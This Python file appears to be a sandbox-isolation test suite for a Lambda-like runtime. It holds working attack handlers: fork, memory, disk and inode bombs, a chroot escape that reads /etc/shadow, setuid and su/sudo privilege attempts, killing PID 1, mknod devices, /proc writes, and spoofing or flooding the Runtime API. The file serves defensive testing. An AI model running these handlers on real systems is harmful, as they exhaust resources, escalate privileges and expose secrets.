"""The attacks: python functions that try to get out, to look around, or to take everything.

Each is the text of a module with a `handler`. An attack answers with what it reached: a list of findings, empty when
it reached nothing. It never decides whether that is bad; the test does.
"""

# Shared by all: raw system calls, and a recorder that tells a refusal from a success.
HEAD = '''
import ctypes, errno, os, socket, struct, sys, time
LIBC = ctypes.CDLL(None, use_errno=True)


def syscall(number, *arguments):
    """(result, errno name) of a raw system call."""
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    return result, errno.errorcode.get(ctypes.get_errno(), "OK")


def attempt(what, action):
    """Runs an action; returns [what] if it worked, [] if it was refused."""
    try:
        value = action()
    except (OSError, ValueError, OverflowError):
        return []
    return [what if value is None else f"{what}: {value!r}"]
'''

READ_HOST = """
def handler(event, context):
    found = []
    for path in event:
        found += attempt(path, lambda: open(path, "rb").read(64))
        found += attempt(path + " (list)", lambda: os.listdir(path))
    return found
"""

SEE_PROCESSES = """
def handler(event, context):
    seen = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                seen.append(open(f"/proc/{name}/cmdline").read())
            except OSError:
                seen.append("")
    return seen
"""

CONNECT = '''
import concurrent.futures
def connected(place):
    try:
        socket.create_connection(tuple(place), timeout=2).close()
    except OSError:
        return False
    return True

def handler(event, context):
    """event: [host, port] pairs; answers those that could be connected to. All are tried at once."""
    with concurrent.futures.ThreadPoolExecutor(len(event)) as pool:
        return [place for place, there in zip(event, pool.map(connected, event)) if there]
'''

UNIX_SOCKETS = '''
def handler(event, context):
    """event: paths and abstract names (beginning with @)."""
    found = []
    for name in event:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with socket.socket(socket.AF_UNIX, kind) as one:
                one.settimeout(2)
                found += attempt(name, lambda: one.connect("\\0" + name[1:] if name[0] == "@" else name))
    return found
'''

LISTENING = '''
def handler(event, context):
    """All local addresses something listens on, as seen from inside."""
    found = []
    for table in ("tcp", "tcp6"):
        try:
            lines = open(f"/proc/net/{table}").read().splitlines()[1:]
        except OSError:
            continue
        found += [line.split()[1] for line in lines if line.split()[3] == "0A"]
    return found
'''

INTERFACES = """
def handler(event, context):
    return [name for _, name in socket.if_nameindex()]
"""

MEMORY_BOMB = """
def handler(event, context):
    held = []
    while True:
        held.append(bytearray(b"x") * (16 << 20))
"""

FORK_BOMB = '''
def handler(event, context):
    """Forks until it is refused; answers how many it got and why it ended."""
    children = 0
    try:
        while children < 100_000:
            pid = os.fork()
            if pid == 0:
                while True:
                    time.sleep(1000)
            children += 1
    except OSError as error:
        return [children, error.errno]
    return [children, 0]
'''

FORK_BOMB_WILD = '''
def handler(event, context):
    """Every child forks, too."""
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''

THREAD_BOMB = """
import threading
def handler(event, context):
    threads = 0
    stop = threading.Event()
    try:
        while threads < 100_000:
            threading.Thread(target=stop.wait, daemon=True).start()
            threads += 1
    except (RuntimeError, MemoryError):
        pass
    stop.set()
    return threads
"""

DISK_BOMB = '''
def handler(event, context):
    """Fills /tmp; answers megabytes written and the error that ended it."""
    block = b"x" * (1 << 20)
    written = 0
    try:
        with open("/tmp/bomb", "wb", buffering=0) as file:
            while written < 4_000:
                written += file.write(block) >> 20
    except OSError as error:
        return [written, errno.errorcode[error.errno]]
    return [written, "OK"]
'''

INODE_BOMB = """
def handler(event, context):
    count = 0
    try:
        while count < 2_000_000 and context.get_remaining_time_in_millis() > 5_000:
            os.close(os.open(f"/tmp/{count}", os.O_CREAT | os.O_WRONLY))
            count += 1
    except OSError as error:
        return [count, errno.errorcode[error.errno]]
    return [count, "OK"]
"""

WRITE_READ_ONLY = """
def handler(event, context):
    found = []
    for folder in event:
        path = os.path.join(folder, "written-by-attack")
        found += attempt(path, lambda: os.close(os.open(path, os.O_CREAT | os.O_WRONLY)))
        found += attempt(folder + " (chmod)", lambda: os.chmod(folder, 0o777))
        found += attempt(folder + " (rename)", lambda: os.rename(folder, folder + "-old"))
    found += attempt("/var/task/index.py", lambda: os.truncate("/var/task/index.py", 0))
    found += attempt("/var/task/index.py (unlink)", lambda: os.unlink("/var/task/index.py"))
    return found
"""

WRITABLE_PLACES = '''
def handler(event, context):
    """Every directory outside /proc that can be written to, found by trying."""
    found = []
    for root, folders, _ in os.walk("/", followlinks=False):
        if root in ("/proc", "/sys"):
            folders.clear()
            continue
        if os.access(root, os.W_OK):
            path = os.path.join(root, ".probe")
            if attempt(root, lambda: os.close(os.open(path, os.O_CREAT | os.O_WRONLY))):
                os.unlink(path)
                found.append(root)
    return found
'''

SYSCALLS = '''
def handler(event, context):
    """event: name -> [number, arguments…]; answers those that did not fail, with their result."""
    found = {}
    for name, (number, *arguments) in event.items():
        pid = os.fork()
        if pid == 0:
            # In a child: an attack may kill or change the process that makes it.
            result, why = syscall(number, *[a.encode() if isinstance(a, str) else a for a in arguments])
            os._exit(0 if result >= 0 else 100 if why in ("EPERM", "EACCES", "ENOSYS") else 101)
        _, status = os.waitpid(pid, 0)
        code = os.waitstatus_to_exitcode(status)
        if code not in (100, -31):
            found[name] = code
    return found
'''

SOCKET_FAMILIES = '''
def handler(event, context):
    """event: name -> [family, kind, protocol]; answers those that could be made."""
    found = []
    for name, (family, kind, protocol) in event.items():
        try:
            socket.socket(family, kind, protocol).close()
        except OSError:
            continue
        found.append(name)
    return found
'''

BECOME_ROOT = '''
import subprocess
def handler(event, context):
    """Runs every setuid or setgid file there is, and the calls that change a user."""
    found = []
    for root, folders, names in os.walk("/"):
        if root in ("/proc", "/sys"):
            folders.clear()
            continue
        for name in names:
            path = os.path.join(root, name)
            try:
                mode = os.lstat(path).st_mode
            except OSError:
                continue
            if mode & 0o6000 and mode & 0o111 and (mode & 0o170000) == 0o100000:
                code = "import os,sys; sys.exit(0)"
                found.append(path)
    lasting = []
    for path in found:
        if path.endswith(("/su", "/sudo")):
            done = subprocess.run([path, "-c", "id -u"], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=10)
            if done.stdout.strip() == "0":
                lasting.append(path)
    for name, action in {
        "setuid": lambda: os.setuid(0),
        "setgid": lambda: os.setgid(0),
        "setresuid": lambda: os.setresuid(0, 0, 0),
        "setgroups": lambda: os.setgroups([0]),
    }.items():
        lasting += attempt(name, action)
    status = open("/proc/self/status").read()
    return {
        "root": lasting,
        "uids": os.getresuid(),
        "groups": os.getgroups(),
        "status": dict(line.split(":\\t", 1) for line in status.splitlines() if ":\\t" in line),
    }
'''

KILL_INIT = """
import signal, uuid
INSTANCE = uuid.uuid4().hex
COUNT = 0
def handler(event, context):
    global COUNT
    COUNT += 1
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGSEGV, signal.SIGINT):
        attempt("kill", lambda: os.kill(1, number))
    return {"instance": INSTANCE, "count": COUNT}
"""

DESCRIPTOR_BOMB = """
def handler(event, context):
    held = []
    try:
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        reached, why = len(held), errno.errorcode[error.errno]
    for one in held:
        os.close(one)
    return [reached, why]
"""

RAISE_LIMITS = """
import resource
def handler(event, context):
    found = []
    for name in ("RLIMIT_NOFILE", "RLIMIT_NPROC", "RLIMIT_CORE", "RLIMIT_MEMLOCK"):
        kind = getattr(resource, name)
        soft, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY:
            if name in ("RLIMIT_NOFILE", "RLIMIT_NPROC"):
                found.append(f"{name} is unlimited")
            continue
        found += attempt(name, lambda: resource.setrlimit(kind, (hard + 1, hard + 1)))
    return found
"""

INHERITED = '''
def handler(event, context):
    """Descriptors this process was given, by what they point to."""
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            found[name] = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
    return found
'''

PROC_WRITES = """
def masked(path):
    # The null device stands where a file was: what is written there goes nowhere.
    try:
        return os.stat(path).st_rdev == os.makedev(1, 3)
    except OSError:
        return False


def handler(event, context):
    found = []
    for path, text in event.items():
        if masked(path):
            continue
        def write():
            with open(path, "w") as file:
                file.write(text)
        found += attempt(path, write)
    return found
"""

OTHER_INIT = """
def handler(event, context):
    found = []
    for path in ("/proc/1/environ", "/proc/1/mem", "/proc/1/maps", "/proc/1/cwd/etc/shadow", "/proc/1/root/etc/shadow",
                 "/proc/1/fd", "/proc/1/exe", "/proc/1/stack", "/proc/1/syscall"):
        found += attempt(path, lambda: os.listdir(path) if path.endswith("/fd") else open(path, "rb").read(64))
    return found
"""

CHROOT = '''
def handler(event, context):
    """The classic: chroot into a folder, walk up, chroot again."""
    os.makedirs("/tmp/jail", exist_ok=True)
    found = attempt("chroot", lambda: os.chroot("/tmp/jail"))
    here = os.open("/", os.O_RDONLY)
    for _ in range(50):
        os.chdir("..")
    found += attempt("/etc/shadow above the root", lambda: open("etc/shadow", "rb").read(16))
    os.close(here)
    return found
'''

MKNOD = '''
import stat
def handler(event, context):
    """Block and character devices by number, made and opened."""
    found = []
    for kind, major, minor in ((stat.S_IFBLK, 254, 0), (stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 7, 0), (stat.S_IFCHR, 1, 1)):
        path = f"/tmp/device-{major}-{minor}"
        found += attempt(path, lambda: os.mknod(path, kind | 0o666, os.makedev(major, minor)))
        found += attempt(path + " (read)", lambda: open(path, "rb").read(16))
    return found
'''

DEVICES = """
def handler(event, context):
    return sorted(os.path.join(root, name)[5:] for root, _, names in os.walk("/dev") for name in names)
"""

OTHER_TMP = """
def handler(event, context):
    if event == "write":
        open("/tmp/secret", "w").write("mine")
    return sorted(name for name in os.listdir("/tmp"))
"""

SHARED_MEMORY = '''
def handler(event, context):
    """Leaves a System V segment and a message queue behind, or looks for one."""
    if event == "make":
        return [syscall(29, 0x1234, 4096, 0o1666)[0] >= 0, syscall(68, 0x1234, 0o1666)[0] >= 0]
    return [syscall(29, 0x1234, 4096, 0)[1], syscall(68, 0x1234, 0)[1]]
'''

TASK_OF_OTHERS = """
def handler(event, context):
    found = []
    for root in ("/var/task", "/opt", "/var/runtime"):
        for folder, _, names in os.walk(root):
            found += [os.path.join(folder, name) for name in names]
    return found
"""

SPOOF_RUNTIME_API = '''
import http.client
def handler(event, context):
    """Asks the Runtime API for an event that is somebody else's, and answers for an id that is not its own."""
    host = os.environ["AWS_LAMBDA_RUNTIME_API"]
    connection = http.client.HTTPConnection(host, timeout=3)
    connection.request("POST", f"/2018-06-01/runtime/invocation/{event}/response", body=b'"stolen"')
    return connection.getresponse().status
'''

HANG_RUNTIME_API = '''
import http.client
def handler(event, context):
    """Opens many connections to the Runtime API and sends too much on each."""
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
    held = []
    for _ in range(event):
        try:
            one = socket.create_connection((host, int(port)), timeout=2)
            one.sendall(b"POST /2018-06-01/runtime/init/error HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 100000000\\r\\n\\r\\n" + b"x" * 65536)
            held.append(one)
        except OSError:
            break
    return len(held)
'''
